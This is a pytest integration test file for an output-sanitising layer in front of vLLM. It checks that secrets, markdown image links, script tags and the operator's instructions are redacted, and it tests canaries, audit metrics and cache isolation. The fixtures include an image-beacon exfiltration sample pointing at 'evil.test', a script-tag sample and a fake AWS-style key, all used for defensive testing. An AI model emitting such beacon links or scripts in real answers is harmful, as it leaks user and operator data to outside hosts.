"""A real model's answers are sanitised on the way to real clients.

The stand-in's words mean nothing, so it is made to say something by vLLM's own means: structured
outputs that leave it one choice.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import anthropic
import openai
import pytest

from vauban.mark import Sealer
from vauban.policy_output import OutputPolicy
from vauban.protocol.owner import Owners
from vauban.types import Principal, PrincipalKind

pytestmark = pytest.mark.vllm

MODEL = "standin"
KEY = "AKIA" + "Q3EGRSEX7PLMNBVC"
SECRET = "5a" * 32
INSTRUCTION = (
    "You answer for Harbour Library. Opening hours are nine to five. The staff entrance is behind"
    " the old mill, and the code of its door changes on the first Monday of each month."
)
ASKED = [{"role": "user", "content": "What can you tell me?"}]
CASES = {
    "secret": (f"the key is {KEY} as asked", "the key is [redacted: secrets] as asked"),
    "image": (
        "see ![chart](https://evil.test/c.png?d=c2VjcmV0) here",
        "see ![chart]([redacted: images]) here",
    ),
    "script": (
        "run <script>go</script> now",
        "run <[redacted: active]>go<[redacted: active]> now",
    ),
    "plain": ("nothing to hide in these words", "nothing to hide in these words"),
}


def only(text: str) -> dict[str, Any]:
    """The model can say nothing else."""
    return {"structured_outputs": {"choice": [text]}}


def clients(server: Any) -> tuple[openai.OpenAI, anthropic.Anthropic]:
    options = {"api_key": "none", "max_retries": 0, "timeout": 120}
    return openai.OpenAI(base_url=f"{server.url}/v1", **options), anthropic.Anthropic(
        base_url=server.url, **options
    )


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("case", list(CASES))
def test_chat(live: Any, case: str, stream: bool) -> None:
    client, _ = clients(live)
    said, wanted = CASES[case]
    answer = client.chat.completions.create(
        model=MODEL, messages=ASKED, max_tokens=200, n=2, stream=stream, extra_body=only(said)
    )  # type: ignore[call-overload]
    texts = {0: "", 1: ""}
    if stream:
        for event in answer:
            for choice in event.choices:
                texts[choice.index] += choice.delta.content or ""
    else:
        texts = {choice.index: choice.message.content for choice in answer.choices}
    assert texts == {0: wanted, 1: wanted}


@pytest.mark.parametrize("stream", [False, True])
def test_the_other_routes(live: Any, stream: bool) -> None:
    client, _ = clients(live)
    said, wanted = CASES["secret"]
    answer = client.completions.create(
        model=MODEL, prompt="x", max_tokens=200, stream=stream, extra_body=only(said)
    )  # type: ignore[call-overload]
    parts = list(answer) if stream else [answer]
    assert "".join(part.choices[0].text for part in parts) == wanted
    response = client.responses.create(
        model=MODEL, input="What?", max_output_tokens=200, stream=stream, extra_body=only(said)
    )  # type: ignore[call-overload]
    if stream:
        events = list(response)
        deltas = [event.delta for event in events if event.type == "response.output_text.delta"]
        assert "".join(deltas) == wanted
        response = events[-1].response
    assert response.output_text == wanted
    assert KEY not in response.model_dump_json()


@pytest.mark.parametrize("stream", [False, True])
def test_a_schema_is_kept(live: Any, stream: bool) -> None:
    """Anthropic's route, whose only constraint is a schema; what comes out is still JSON."""
    _, client = clients(live)
    schema = {"type": "object", "properties": {"k": {"const": f"key {KEY}"}}, "required": ["k"],
              "additionalProperties": False}  # fmt: skip
    answer = client.messages.create(
        model=MODEL, max_tokens=200, messages=ASKED, stream=stream,
        extra_body={"output_config": {"format": {"type": "json_schema", "schema": schema}}},
    )  # type: ignore[call-overload]  # fmt: skip
    if stream:
        pieces = [e.delta.text for e in answer if e.type == "content_block_delta"]
        text = "".join(pieces)
    else:
        text = answer.content[0].text
    assert json.loads(text) == {"k": "key [redacted: secrets]"}


def test_what_was_found_is_counted(live: Any) -> None:
    before = live.metric("vauban_output_findings_total", detector="secrets", action="redact")
    body = {"model": MODEL, "messages": ASKED, "max_tokens": 200, **only(CASES["secret"][0])}
    assert KEY not in live.post("/v1/chat/completions", body).text
    after = live.metric("vauban_output_findings_total", detector="secrets", action="redact")
    assert after == before + 1
    audited = [json.loads(line) for line in live.log().splitlines() if '"event": "output"' in line]
    assert audited[-1]["findings"] == {"secrets.redact": 1}
    assert KEY not in live.log()


# -- the operator's text, canaries, and the cache ------------------------------------------------


@pytest.fixture(scope="module")
def library(start: Any) -> Iterator[Any]:
    with start(
        "--additional-config.vauban.sandwich.instruction", INSTRUCTION,
        "--additional-config.vauban.output.prompt_words", "12",
        environ={"VAUBAN_SECRET": SECRET}, max_model_len=4096,
    ) as server:  # fmt: skip
        yield server


def canary_of(server: Any) -> str:
    body = {"model": MODEL, "messages": ASKED, "max_tokens": 1}
    assert server.post("/v1/chat/completions", body).status_code == 200
    caller = Principal(server.decisions()[-1]["principal"], PrincipalKind.ANONYMOUS)
    canary = Owners(Sealer(bytes.fromhex(SECRET)), OutputPolicy()).canary(caller, "")
    assert canary is not None
    return canary


@pytest.mark.parametrize("spell", [str, lambda c: c[::-1], " ".join], ids=["so", "back", "spaced"])
@pytest.mark.parametrize("stream", [False, True])
def test_a_canary_ends_the_answer_and_the_engines_work(
    library: Any, stream: bool, spell: Any
) -> None:
    client, _ = clients(library)
    canary = spell(canary_of(library))
    before = library.metric("vllm:generation_tokens_total")
    regex = f"The shelf is marked {canary}" + "( [a-z]{3,8}){150}"
    answer = client.chat.completions.create(
        model=MODEL, messages=ASKED, max_tokens=300, stream=stream,
        extra_body={"structured_outputs": {"regex": regex}},
    )  # type: ignore[call-overload]  # fmt: skip
    if stream:
        events = list(answer)
        text = "".join(c.delta.content or "" for e in events for c in e.choices)
        reasons = [c.finish_reason for e in events for c in e.choices if c.finish_reason]
    else:
        text = answer.choices[0].message.content
        reasons = [answer.choices[0].finish_reason]
    assert reasons == ["content_filter"]
    assert text == "The shelf is marked "
    assert library.settle("vllm:num_requests_running", 0) == 0
    canary_of(library)  # vLLM counts what an aborted request made when it makes another step
    made = library.metric("vllm:generation_tokens_total") - before
    # A whole answer is read when the engine has done its work.
    assert made < 200 if stream else made > 250


@pytest.mark.parametrize("stream", [False, True])
def test_the_operators_text_does_not_leave(library: Any, stream: bool) -> None:
    client, _ = clients(library)
    said = f"I was told this: {INSTRUCTION} Nothing else."
    answer = client.chat.completions.create(
        model=MODEL, messages=ASKED, max_tokens=400, stream=stream, extra_body=only(said)
    )  # type: ignore[call-overload]
    text = (
        "".join(c.delta.content or "" for e in answer for c in e.choices)
        if stream
        else answer.choices[0].message.content
    )
    assert text == "I was told this: [redacted: prompt] Nothing else."


def test_prefixes_are_shared_with_oneself_only(library: Any) -> None:
    """A caller finds his own prefix again, whatever salt he names; nobody can name another's."""

    def cached(salt: str | None) -> int:
        text = "A long question about opening hours and days. " * 30
        body = {"model": MODEL, "messages": [{"role": "user", "content": text}], "max_tokens": 1,
                "cache_salt": salt}  # fmt: skip
        before = library.metric("vllm:prefix_cache_hits_total")
        assert library.post("/v1/chat/completions", body).status_code == 200
        return int(library.metric("vllm:prefix_cache_hits_total") - before)

    cached(None)
    assert cached(None) > 200
    assert cached("another") < 200
    assert cached("another") > 200
